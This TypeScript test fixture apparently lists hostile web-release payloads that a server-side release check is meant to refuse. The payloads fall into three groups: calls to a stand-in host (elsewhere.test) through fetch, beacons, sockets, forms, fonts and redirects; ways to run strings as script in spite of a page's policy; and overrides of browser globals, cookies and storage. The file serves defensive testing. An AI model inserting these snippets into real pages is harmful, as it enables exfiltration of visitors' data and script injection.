/*
 * Attacks by the web half of a release. The release check refuses each (server/test/hostile). A
 * composed page contains those that bypass the check (e2e/tests/hostile-releases.spec.ts).
 */

/** Code by a description that completes "a release that …". */
export type Attacks = Readonly<Record<string, string>>;
export const HOST = 'elsewhere.test';
/** Adds an element to the document, with changed properties. */
export const addElement = (element: string, changes: string) =>
  `(() => { const it = Object.assign(document.createElement('${element}'), ${changes}); ` +
  'document.documentElement.append(it); return it; })()';
/** Send visitors' data to another host. */
export const SENDING_ATTACKS: Attacks = {
  'asks another host by fetch': `fetch('https://h1.${HOST}/').catch(() => {})`,
  'asks another host where no answer is read': `fetch('https://h2.${HOST}/', {
    mode: 'no-cors',
    keepalive: true,
  }).catch(() => {})`,
  'asks another host by XMLHttpRequest': `try {
    const own = new XMLHttpRequest();
    own.open('GET', 'https://h3.${HOST}/');
    own.send();
  } catch {}`,
  'asks another host by a beacon': `navigator.sendBeacon('https://h4.${HOST}/', 'x')`,
  'asks another host by a WebSocket': `try { new WebSocket('wss://h5.${HOST}/'); } catch {}`,
  'asks another host by an EventSource': `try { new EventSource('https://h6.${HOST}/'); } catch {}`,
  'asks another host by a picture': `new Image().src = 'https://h7.${HOST}/?x'`,
  'asks another host by a video': addElement(
    'video',
    `{ src: 'https://h8.${HOST}/', preload: 'auto' }`,
  ),
  'asks another host by a frame': addElement('iframe', `{ src: 'https://h9.${HOST}/' }`),
  'asks another host by an object': `try {
    ${addElement('object', `{ data: 'https://h10.${HOST}/' }`)};
  } catch {}`,
  'asks another host by a form':
    addElement('form', `{ action: 'https://h11.${HOST}/', method: 'post' }`) + '.submit()',
  'asks another host by a style sheet': addElement(
    'link',
    `{ rel: 'stylesheet', href: 'https://h12.${HOST}/a.css' }`,
  ),
  'asks another host by a style': `document.body.style.backgroundImage =
    'url(https://h13.${HOST}/)'`,
  'asks another host by a rule of a sheet': `const own = new CSSStyleSheet();
    own.replaceSync('html{background:url(https://h14.${HOST}/)}');
    document.adoptedStyleSheets = [own]`,
  'asks another host by a font': `const own = new FontFace('own', 'url(https://h15.${HOST}/)');
    document.fonts.add(own);
    document.fonts.load('1em own').catch(() => {})`,
  'asks another host ahead of time': addElement(
    'link',
    `{ rel: 'prefetch', href: 'https://h16.${HOST}/' }`,
  ),
  'looks another host up': addElement(
    'link',
    `{ rel: 'dns-prefetch', href: 'https://h17.${HOST}/' }`,
  ),
  'connects to another host': addElement(
    'link',
    `{ rel: 'preconnect', href: 'https://h18.${HOST}/' }`,
  ),
  'asks another host by a ping':
    addElement('a', `{ href: '#', ping: 'https://h19.${HOST}/' }`) + '.click()',
  'imports a module of another host': `const own = 'https://h20.${HOST}/a.js';
    import(own).catch(() => {})`,
  'loads a script of another host': `const own = trustedTypes.createPolicy('wp-upload', {
      createScriptURL: (url) => url,
    });
    ${addElement(
      'script',
      `{ src: own.createScriptURL('https://h21.${HOST}/a.js'), crossOrigin: 'anonymous',
        integrity: 'sha384-${'A'.repeat(64)}' }`,
    )}`,
  'opens a connection between browsers': `const own = new RTCPeerConnection();
    own.createDataChannel('x');
    globalThis.own = own`,
  'leads the visitor to another host': `location.href = 'https://h23.${HOST}/'`,
  'leads the visitor to another host by markup': addElement(
    'meta',
    `{ httpEquiv: 'refresh', content: '0;url=https://h24.${HOST}/' }`,
  ),
  'opens a window of another host': `open('https://h25.${HOST}/')`,
};

/** Run strings as scripts, against the policy of the page. */
export const TEXT_ATTACKS: Attacks = {
  'evaluates a text': `try { eval('ran = 1'); } catch {}`,
  'makes a function of a text': `try { new Function('ran = 1')(); } catch {}`,
  'gives a timer a text': `try { setTimeout('ran = 1'); } catch {}`,
  'writes a script into the page': `try {
    ${addElement('script', `{ textContent: 'ran = 1' }`)};
  } catch {}`,
  'writes a handler into the page': `try {
    document.body.setAttribute('onclick', 'ran = 1');
  } catch {}`,
  'writes markup into the page': `try {
    document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran = 1">');
  } catch {}`,
  'writes a document into a frame': `try {
    ${addElement('iframe', `{ srcdoc: '<script>parent.ran = 1</script>' }`)};
  } catch {}`,
  'follows a script link': `${addElement('a', `{ href: 'javascript:void (ran = 1)' }`)}.click()`,
  'makes a policy that lets everything in': `try {
    trustedTypes.createPolicy(['default'].join(), { createScript: (text) => text });
  } catch {}`,
  'moves the base of all addresses': addElement('base', `{ href: 'https://${HOST}/' }`),
  'takes the head away and evaluates a text': `try {
    document.head.querySelectorAll('meta').forEach((own) => own.remove());
    eval('ran = 1');
  } catch {}`,
};

/** Change globals that all parts of the page use. */
export const CHANGING_ATTACKS: Attacks = {
  'takes the way to the server in the browser': `fetch = () => new Promise(() => {})`,
  'hides a built-in function of the window': `addEventListener = () => {}`,
  'hides the history of the window': `history.pushState = () => {}`,
  'changes the history of all': `History.prototype.replaceState = () => {}`,
  'changes every list in the browser': `const own = Array.prototype.map;
    Array.prototype.map = function (...all) { return own.apply(this, all); }`,
  'changes every promise in the browser': `const own = Promise.prototype.then;
    Promise.prototype.then = function (...all) { return own.apply(this, all); }`,
  'adds to every object in the browser': `Object.prototype.own = undefined`,
  'adds to every element': `Element.prototype.own = () => 1`,
  'changes how JSON is written in the browser': `JSON.stringify = () => '{}'`,
  'changes the clock in the browser': `Date.now = () => 0`,
  'changes the timers': `const own = setTimeout; globalThis.setTimeout = (...all) => own(...all)`,
  'listens to who listens': `const own = EventTarget.prototype.addEventListener;
    EventTarget.prototype.addEventListener = function (...all) { return own.apply(this, all); }`,
  'watches the cookies': `Object.defineProperty(document, 'cookie', {
    get: () => '',
    set() {},
    configurable: true,
  })`,
  'changes how elements are made': `document.createElement =
    Document.prototype.createElement.bind(document)`,
  'changes the storage': `Storage.prototype.getItem = () => null`,
};
